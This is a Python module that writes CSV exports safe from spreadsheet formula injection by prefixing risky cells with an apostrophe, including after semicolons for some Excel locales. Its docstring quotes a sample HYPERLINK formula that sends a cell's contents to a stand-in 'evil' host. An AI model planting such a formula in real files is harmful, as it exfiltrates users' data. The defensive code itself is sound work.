"""Exports people open in spreadsheets: CSV with every cell safe from formula injection.

A cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is taken as a formula by Excel, LibreOffice
and Google Sheets (`=HYPERLINK("http://evil/?"&A1, "click")` sends data away when clicked; DDE formulas could run
commands). Declarations carry free text from traders, so every exported cell goes through `spreadsheet_safe`,
which prefixes such a cell with an apostrophe — the OWASP "CSV injection" advice; spreadsheets show the text and
do not evaluate it. Excel in locales whose list separator is ";" (Dutch, Belgian, German, French) splits an
unquoted cell at ";", so a formula start right after a ";" inside a cell gets the apostrophe too. The stored value
is never changed: neutralising is a property of the export, not of the data.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Iterator, Sequence
from datetime import datetime
from decimal import Decimal
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_AFTER_SEMICOLON = re.compile(r";(\s*)([=+\-@\t\r])")


def spreadsheet_safe(value: Any) -> str:
    """`value` as CSV cell text that no spreadsheet will evaluate (numbers stay numbers)."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float | Decimal):
        return str(value)  # a negative number is a number, not a formula
    if isinstance(value, datetime):
        return value.isoformat()
    text = value if isinstance(value, str) else str(value)
    if ";" in text:  # Excel in locales whose list separator is ";" (NL, BE, DE, FR) splits the cell there
        text = _AFTER_SEMICOLON.sub(r";\1'\2", text)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_chunks(header: Sequence[str], rows: Iterable[Sequence[Any]], *, rows_per_chunk: int = 500) -> Iterator[str]:
    """RFC 4180 CSV text in chunks (for a streaming response): the header, then every row, each cell made safe."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([spreadsheet_safe(h) for h in header])
    for n, row in enumerate(rows, start=1):
        writer.writerow([spreadsheet_safe(v) for v in row])
        if n % rows_per_chunk == 0:
            yield buffer.getvalue()
            buffer.seek(0)
            buffer.truncate()
    yield buffer.getvalue()
